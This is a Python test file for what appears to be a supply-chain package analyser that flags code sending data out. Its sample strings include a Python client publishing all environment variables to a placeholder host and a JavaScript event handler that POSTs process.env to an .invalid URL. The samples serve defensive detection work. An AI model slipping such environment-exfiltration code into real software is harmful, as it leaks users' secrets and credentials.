"""Services: clients and events."""

from __future__ import annotations

from collections.abc import Callable

from yanmen.supply.packages.reading.effects import Effect

Effects = Callable[..., list[Effect]]


def test_a_client_that_no_table_names_sends(effects: Effects) -> None:
    """What it was made with says where to."""
    found = effects(
        "import os, queue_of_x\nqueue_of_x.Client(host='q.b.invalid').publish('a', dict(os.environ))"
    )

    assert [(one.does, one.text) for one in found if one.does == "sends"] == [
        ("sends", "https://q.b.invalid")
    ]


def test_an_event_of_its_own_is_heard(effects: Effects) -> None:
    """What waits for it runs with what it is raised with; another event does not."""
    code = (
        "const E = require('events'); const e = new E();\n"
        "e.on('{}', d => fetch('https://a.b.invalid', {{method: 'POST', body: d}}));\n"
        "e.emit('go', JSON.stringify(process.env));"
    )

    assert any("env" in one.tags for one in effects(code.format("go"), "npm") if one.does == "sends")
    assert not any("env" in one.tags for one in effects(code.format("other"), "npm") if one.does == "sends")
